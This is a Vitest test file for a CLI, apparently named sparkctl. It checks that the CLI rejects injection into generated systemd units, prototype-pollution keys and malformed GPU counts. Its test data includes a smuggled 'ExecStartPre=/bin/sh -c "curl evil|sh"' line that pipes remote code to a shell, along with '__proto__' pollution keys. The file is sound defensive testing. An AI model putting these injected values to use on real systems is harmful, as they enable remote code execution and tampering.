// Issue 13 items 15, 16, 17: hostile or careless input to the CLI.
import { describe, it, expect, afterAll } from 'vitest';
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { cli, tempDir, rmrf } from '../helpers.js';

const dir = tempDir('sparkctl-input-');
afterAll(() => rmrf(dir));

describe('the systemd unit cannot be injected into', { timeout: 120_000 }, () => {
  it.each([
    ['a newline in a --set value', ['--set', 'description=ok\n[Service]\nExecStartPre=/bin/sh -c "curl evil|sh"']],
    ['a newline in --user', ['--user', 'vllm\nExecStartPre=/bin/evil']],
    ['a carriage return in --set', ['--set', 'description=a\rb']],
    ['a user name with a space', ['--user', 'root nobody']],
  ])('%s: exit 2', async (_n, args) => {
    const r = await cli(['systemd', 'qwen3.5-9b', ...args]);
    expect(r.exitCode, r.stdout).toBe(2);
    expect(r.stdout).not.toMatch(/ExecStartPre/);
  });

  it('a profiles path with a space stays one argument; % and $ are escaped', async () => {
    const spaced = join(dir, 'my profiles');
    mkdirSync(spaced);
    const r = await cli(['systemd', 'qwen3.5-9b', '--profiles', spaced, '--set', 'description=100% $HOME']);
    expect(r.exitCode, r.stderr).toBe(0);
    const exec = r.stdout.split('\n').find((l) => l.startsWith('ExecStart='))!;
    expect(exec).toContain(`--profiles "${spaced}"`);
    expect(exec).toContain('"description=100%% $$HOME"');
    // A comment is not parsed for specifiers: the description is shown as written.
    expect(r.stdout).toContain('# sparkctl systemd qwen3.5-9b: 100% $HOME');
    // Exactly one line per setting: nothing was split.
    expect(r.stdout.split('\n').filter((l) => l.startsWith('ExecStart')).length).toBe(2);
  });
});

describe('--set cannot reach the object prototype; --gpus is decimal', { timeout: 120_000 }, () => {
  it.each(['__proto__.x=1', 'constructor.prototype.x=1', 'engine.__proto__.polluted=1'])(
    '--set %s: exit 2',
    async (s) => {
      const r = await cli(['plan', 'qwen3.5-9b', '--set', s]);
      expect(r.exitCode, r.stderr).toBe(2);
      expect(r.stderr).toMatch(/is not a field of a profile/);
    },
  );
  it.each(['0x10', '1e3', '0b1', ' 8', '8.0', '-1'])('--gpus %j: exit 2', async (g) => {
    const r = await cli(['plan', 'qwen3.5-9b', '--gpus', g]);
    expect(r.exitCode, r.stderr).toBe(2);
  });
  it('--gpus 8 still works', async () => {
    const r = await cli(['plan', 'qwen3.5-9b', '--gpus', '8']);
    expect(r.exitCode, r.stderr).toBe(0);
  });
});

describe('--verbose prints stack traces only for internal errors', { timeout: 120_000 }, () => {
  it('an unknown profile (exit 2) and an unreachable server (exit 3) have no stack trace', async () => {
    const a = await cli(['--verbose', 'plan', 'no-such-profile']);
    expect(a.exitCode).toBe(2);
    expect(a.stderr).not.toMatch(/\n\s+at /);
    const b = await cli(['--verbose', 'prewarm', '--url', 'http://127.0.0.1:1', '--deadline', '1'], {
      env: { SPARKCTL_STATE_DIR: dir },
    });
    expect(b.exitCode).toBe(3);
    expect(b.stderr).not.toMatch(/\n\s+at /);
  });
});
